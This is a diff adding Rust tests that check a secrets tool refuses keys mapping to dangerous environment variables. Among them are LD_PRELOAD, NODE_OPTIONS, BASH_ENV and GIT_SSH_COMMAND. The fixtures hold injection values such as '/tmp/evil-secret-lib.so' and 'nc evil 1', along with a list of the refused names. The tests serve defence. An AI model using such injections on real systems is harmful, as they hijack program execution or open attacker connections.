@@ -271,3 +271,211 @@ mod no_internal_errors {
         }
     }
 }
+
+// ---------------------------------------------------------------------------
+// Item 9: names that change how programs run.
+
+/// An encrypted file, then a clear key injected by a writer without a key:
+/// under `mac_only_encrypted` a clear value is outside the MAC, so the file
+/// still verifies and the code before this change set the variable.
+fn injected(t: &TestDir, key: &str, value: &str) {
+    t.write("s.yaml", "token: tok-secret-1\n");
+    t.run(&[
+        "encrypt",
+        "--age",
+        RECIPIENT1,
+        "--mac-only-encrypted",
+        "--unencrypted-regex",
+        "^ld_preload$",
+        "-i",
+        "s.yaml",
+    ])
+    .ok();
+    let text = t.read("s.yaml");
+    t.write("s.yaml", &format!("{key}: {value}\n{text}"));
+}
+
+/// A file whose key holder wrote `key` as an ordinary (encrypted) secret:
+/// the name is refused whoever wrote it.
+fn with_key(t: &TestDir, key: &str, value: &str) {
+    t.write("s.yaml", &format!("{key}: {value}\ntoken: tok-secret-1\n"));
+    t.run(&["encrypt", "--age", RECIPIENT1, "-i", "s.yaml"])
+        .ok();
+}
+
+#[test]
+fn exec_refuses_an_injected_ld_preload_before_running_anything() {
+    let t = TestDir::new();
+    injected(&t, "ld_preload", "/tmp/evil-secret-lib.so");
+    let marker = t.path("ran");
+    let r = t.run(&[
+        "exec",
+        "--identity",
+        key1().to_str().unwrap(),
+        "-f",
+        "s.yaml",
+        "--",
+        "touch",
+        marker.to_str().unwrap(),
+    ]);
+    r.leaks_none(&["/tmp/evil-secret-lib.so", "tok-secret-1"]);
+    assert!(!marker.exists(), "the command ran");
+    // The seal (issue #10 item 2, exits 213/214) may refuse the injected key
+    // first; without it, this refusal must.
+    if r.code() != 213 && r.code() != 214 {
+        r.fails_with(217);
+        assert!(
+            r.stderr()
+                .contains("the key path ld_preload (s.yaml) gives the variable LD_PRELOAD"),
+            "{}",
+            r.stderr()
+        );
+        assert!(
+            r.stderr().contains("--allow-env LD_PRELOAD"),
+            "{}",
+            r.stderr()
+        );
+    }
+}
+
+#[test]
+fn each_listed_name_is_refused_by_exec_and_export() {
+    for (key, var) in [
+        ("path", "PATH"),
+        ("node_options", "NODE_OPTIONS"),
+        ("bash_env", "BASH_ENV"),
+        ("https_proxy", "HTTPS_PROXY"),
+        ("pythonstartup", "PYTHONSTARTUP"),
+    ] {
+        let t = TestDir::new();
+        with_key(&t, key, "value-secret-x");
+        let r = t.run(&[
+            "exec",
+            "--identity",
+            key1().to_str().unwrap(),
+            "-f",
+            "s.yaml",
+            "--",
+            "true",
+        ]);
+        r.fails_with(217)
+            .leaks_none(&["value-secret-x", "tok-secret-1"]);
+        assert!(
+            r.stderr().contains(&format!("gives the variable {var},")),
+            "{}",
+            r.stderr()
+        );
+        for format in ["dotenv", "shell", "json"] {
+            let r = t.run(&[
+                "export",
+                "--identity",
+                key1().to_str().unwrap(),
+                "s.yaml",
+                "--format",
+                format,
+            ]);
+            r.fails_with(217)
+                .leaks_none(&["value-secret-x", "tok-secret-1"]);
+            assert!(r.stdout().is_empty());
+        }
+    }
+}
+
+#[test]
+fn allow_env_prefix_and_only_let_a_user_through() {
+    let t = TestDir::new();
+    with_key(&t, "https_proxy", "http://proxy.example:3128");
+    let key = key1();
+    let id = key.to_str().unwrap();
+    let show = "printf '%s|%s' \"$HTTPS_PROXY\" \"$TOKEN\"";
+    let r = t.run(&[
+        "exec",
+        "--identity",
+        id,
+        "-f",
+        "s.yaml",
+        "--allow-env",
+        "HTTPS_PROXY",
+        "--",
+        "sh",
+        "-c",
+        show,
+    ]);
+    r.ok();
+    assert_eq!(r.stdout(), "http://proxy.example:3128|tok-secret-1");
+    // The exact name is needed (a prefix changes it, and makes it harmless).
+    let r = t.run(&[
+        "exec",
+        "--identity",
+        id,
+        "-f",
+        "s.yaml",
+        "--prefix",
+        "APP_",
+        "--",
+        "sh",
+        "-c",
+        "printf %s \"$APP_HTTPS_PROXY\"",
+    ]);
+    r.ok();
+    assert_eq!(r.stdout(), "http://proxy.example:3128");
+    let r = t.run(&[
+        "exec",
+        "--identity",
+        id,
+        "-f",
+        "s.yaml",
+        "--only",
+        "token",
+        "--",
+        "sh",
+        "-c",
+        show,
+    ]);
+    r.ok();
+    assert_eq!(r.stdout(), "|tok-secret-1");
+    let r = t.run(&[
+        "export",
+        "--identity",
+        id,
+        "s.yaml",
+        "--format",
+        "json",
+        "--allow-env",
+        "HTTPS_PROXY",
+    ]);
+    r.ok();
+    assert!(r.stdout().contains("\"HTTPS_PROXY\""));
+}
+
+#[test]
+fn a_dotenv_key_and_a_json_key_map_to_refused_names_too() {
+    let t = TestDir::new();
+    t.write("a.env", "LD_AUDIT=/x.so\nT=1\n");
+    t.run(&["encrypt", "--age", RECIPIENT1, "-i", "a.env"]).ok();
+    t.write("b.json", "{\"git\": {\"ssh_command\": \"nc evil 1\"}}\n");
+    t.run(&["encrypt", "--age", RECIPIENT1, "-i", "b.json"])
+        .ok();
+    for (file, var, path) in [
+        ("a.env", "LD_AUDIT", "LD_AUDIT"),
+        ("b.json", "GIT_SSH_COMMAND", "git.ssh_command"),
+    ] {
+        let r = t.run(&[
+            "exec",
+            "--identity",
+            key1().to_str().unwrap(),
+            "-f",
+            file,
+            "--",
+            "true",
+        ]);
+        r.fails_with(217).leaks_none(&["/x.so", "nc evil"]);
+        assert!(
+            r.stderr().contains(&format!(
+                "the key path {path} ({file}) gives the variable {var},"
+            )),
+            "{}",
+            r.stderr()
+        );
+    }
+}
